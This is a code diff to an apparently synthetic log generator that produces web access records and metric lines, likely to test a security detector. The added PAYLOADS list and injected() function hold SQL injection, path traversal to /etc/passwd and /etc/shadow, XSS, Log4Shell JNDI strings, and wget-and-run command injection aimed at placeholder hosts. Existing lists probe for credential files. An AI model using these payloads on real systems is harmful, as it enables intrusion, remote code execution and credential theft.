@@ -15,6 +15,15 @@ ATTACKS = """/index.php?id=1%20union%20select%201,2,3--|/item?id=1' or 1=1--|/pr
 /phpunit/src/Util/PHP/eval-stdin.php|/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array&cmd=id|/?id=-1+union+select+null,version()|
 /profile?name=%27%20union%20select%20password%20from%20admin|/wp-content/plugins/{word}/download.php?f=../../../wp-config.php|/api/exec?cmd=whoami|/?a=%2e%2e%2f%2e%2e%2fetc%2fpasswd|
 /users?id=1 union all select 1,2,table_name from information_schema.tables|/get?path=..%2f..%2f..%2f..%2fwindows%2fwin.ini|/q?x=1' AND SLEEP(10) AND '1'='1|/x?y=() { :; }; /bin/bash -c id"""
+# Payloads for any parameter of any page, beside the whole requests above.
+PAYLOADS = """1 union select null,null--|' or '1'='1|1' or 1=1#|" or ""="|admin'--|1; drop table users|1 and 1=2 union select 1,2,3|' union select username,password from users--|
+1 order by 10--|1' and sleep(5)--|1;select pg_sleep(5)|1 or sleep(3)|') or ('1'='1|1 and benchmark(5000000,md5(1))|-1' union all select null,@@version--|1 union select 1,concat(user,0x3a,pass),3 from admin|
+../../../etc/passwd|../../../../../../etc/shadow|..%2f..%2f..%2fetc%2fpasswd|%2e%2e%2f%2e%2e%2fetc/hosts|....//....//....//etc/passwd|/etc/passwd|file:///etc/passwd|..\\..\\windows\\win.ini|%2e%2e/%2e%2e/boot.ini|../../../../proc/self/environ|
+<script>alert(1)</script>|<script>document.location='http://{domain}'</script>|"><script>alert('xss')</script>|%3Cscript%3Ealert(1)%3C%2Fscript%3E|<ScRiPt>prompt(1)</sCrIpT>|
+;wget http://{ip4}/x.sh|;wget+http://{ip4}/bot;sh+bot|$(wget http://{ip4}/a)|`wget http://{ip4}/a`;wget http://{ip4}|php://input|php://filter/read=convert.base64-encode/resource=index.php|base64_decode('ZWNobw==')|eval(base64_decode('c3lzdGVt'))|
+${jndi:ldap://{ip4}/a}|${jndi:ldap://{domain}:1389/{word}}|${jndi:rmi://{ip4}:1099/obj}|%24%7Bjndi:dns://{domain}/a%7D|${jndi:${lower:l}dap://{ip4}/x}"""
+PAYLOADS = PAYLOADS.replace("\n", "").split("|")
+PARAMETERS = "id q page file path name user search cat item lang redirect url view doc template action sort filter key ref token username pid mode include data x".split()
 AGENT_ATTACKS = ["${jndi:ldap://{ip4}:1389/Basic}", "() { :; }; /bin/bash -c 'wget http://{ip4}/x'", "() { ignored; }; echo; /bin/cat /etc/passwd", "${jndi:rmi://{ip4}/a}", "' or 1=1--", "<script>alert(1)</script>", "${${lower:j}ndi:${lower:l}dap://{ip4}/o}"]
 SECRETS = """/.env|/.git/config|/.git/HEAD|/backup.sql|/dump.sql|/db.sql|/{word}.sql|/index.php.bak|/config.bak|/site.bak|/wp-config.php|/wp-config.php.bak|/.htpasswd|
 /id_rsa|/.ssh/id_rsa|/.aws/credentials|/api/.env|/.env.production|/admin/.env|/backup/{word}.sql|/.git/logs/HEAD|/app/.git/config|/home/{word}/id_rsa|/old/.htpasswd|/laravel/.env"""
@@ -49,7 +58,7 @@ def request(v, which):
         status = v.pick([200, 200, 201, 404, 404, 403, 400, 500, 302, 301, 405, 401])
         payload = v.fill(v.pick(AGENT_ATTACKS))
         if kind == "attack":
-            url = v.fill(v.pick(part(ATTACKS, which)))
+            url = v.fill(v.pick(part(ATTACKS, which))) if v.chance(0.5) else injected(v, which)
             if v.chance(0.25):
                 url = urllib.parse.quote(url, safe="/?=&%")
             elif v.chance(0.4):
@@ -77,6 +86,13 @@ def request(v, which):
         status = v.pick([404, 404, 403])
         result = verdict("low", "recon", "A probe for weak pages.", True)
     return dict(method=method, url=url, status=status, agent=agent, referer=referer, bytes=v.rng.choice((0, v.num(), v.num(), 162, 548)), verdict=result)
+
+
+def injected(v, which):
+    page = f"/{v.word()}{v.pick(['', '.php', '.asp', '.jsp', '/' + v.word(), '.cgi', '/'])}"
+    if v.chance(0.06):
+        return f"{page}?cmd={v.pick(['id', 'whoami', 'ls', 'cat+/etc/passwd', 'uname+-a'])}"
+    return f"{page}?{v.pick(PARAMETERS)}={v.fill(v.pick(part(PAYLOADS, which)))}"
 
 
 def access(v, which):
@@ -249,15 +265,33 @@ def write(v, sample):
         "interval": v.pick([10, 15, 30, 60]),
         v.pick(["source", "agent", "collector"]): v.pick(["node_exporter", "telegraf", "fazai", "collectd", "sar"]),
     }
+    if len(sample) == 1 and v.chance(0.12):
+        return sentence(v, *next(iter(sample.items())))
     event = dict(sample)
     for key in v.rng.sample(list(extra), v.rng.randint(0, 4)):
         event[key] = extra[key]
     if v.chance(0.55) or any(isinstance(x, dict) for x in event.values()):
+        if v.chance(0.12):
+            event |= {k: f"{x}%" for k, x in sample.items() if is_percent(k) and isinstance(x, (int, float))}
         return event
     items = list(event.items())
     if v.chance(0.6):
         v.rng.shuffle(items)
     percent = "%" if v.chance(0.3) else ""
-    unit = {k: percent for k in sample if not k.startswith(("load", "cores", "ncpu", "cpus", "cpu_count", "n_cpus", "cpu_cores", "temp", "metric", "type", "kind", "check", "sensor", "core_temp"))}
     head = v.pick(["", "", "", "metric ", "sample: ", f"{v.iso()} ", f"{v.host()} "])
-    return head + v.pick([" ", " ", ", "]).join(f"{k}={x}{unit.get(k, '') if isinstance(x, (int, float)) else ''}" for k, x in items)
+    pairs = [f"{k}={x}{percent if k in sample and is_percent(k) and isinstance(x, (int, float)) else ''}" for k, x in items]
+    return head + v.pick([" ", " ", ", "]).join(pairs)
+
+
+def is_percent(name):
+    return not name.startswith(("load", "cores", "ncpu", "cpus", "cpu_count", "n_cpus", "cpu_cores", "temp", "metric", "type", "kind", "check", "sensor", "core_temp", "cpu_temp"))
+
+
+def sentence(v, name, value):
+    """The same as a line of text, or as an exporter writes it."""
+    if not isinstance(value, (int, float)):
+        return {name: value}
+    percent = "%" if is_percent(name) and v.chance(0.7) else ""
+    label = f'{{{v.pick(["instance", "host", "mountpoint", "device"])}="{v.host()}"}}'
+    words = name.replace("_", " ").replace(".", " ")
+    return v.pick([f"{name}{label} {value}", f"{words}: {value}{percent}", f"{words} is {value}{percent} on {v.host()}", f"{v.host()}: {words} {value}{percent}", f"{words} at {value}{percent}", f"{v.iso()} {v.host()} {name} {value}"])
